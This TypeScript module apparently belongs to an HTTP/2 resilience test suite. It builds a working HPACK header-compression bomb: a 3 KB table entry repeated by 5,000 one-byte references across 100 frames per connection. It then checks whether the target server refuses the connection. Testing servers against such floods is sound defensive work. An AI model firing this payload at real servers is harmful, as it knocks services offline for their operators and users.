import { frame } from "../../wire-fixtures/raw.ts";
import type { Attack } from "../attack.ts";
import { closedWithin, dialHttp2 } from "../dial.ts";
import { callHeaders, hpack } from "../hpack.ts";

const count = 100;

/** A value of 3 KB that goes into the header table (RFC 7541, section 6.2.1), and 5,000 headers of one byte that repeat it. */
const big = Buffer.concat([Buffer.from([0x40, 1, 0x78, 127, ...varint(3_000 - 127)]), Buffer.alloc(3_000, 0x79)]);
const repeats = Buffer.alloc(5_000, 0x80 | 62);

function varint(value: number): number[] {
  const bytes = [];
  let rest = value;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return [...bytes, rest];
}

/** Sessions of 100 requests with 8 KB of headers each that unpack to 15 MB. */
export const headerBombs: Attack = {
  name: "header bombs, 100 in a session",
  right: /^(refused|ended by the server)$/,
  perSecond: 20,
  atOnce: 2,
  attempts: 100,
  twin: "bare",
  begin(target) {
    const head = hpack(callHeaders(target.key));
    const block = Buffer.concat([head, big, repeats]);
    const bombs = Buffer.concat(Array.from({ length: count }, (_, i) => frame(1, 5, 2 * i + 1, block)));
    return {
      async one() {
        const connection = await dialHttp2(target);
        connection.socket.write(bombs);
        connection.socket.end();
        const isClosed = await closedWithin(connection, 10_000);
        connection.socket.destroy();
        return isClosed ? "refused" : "left open";
      },
      end() {},
    };
  },
};
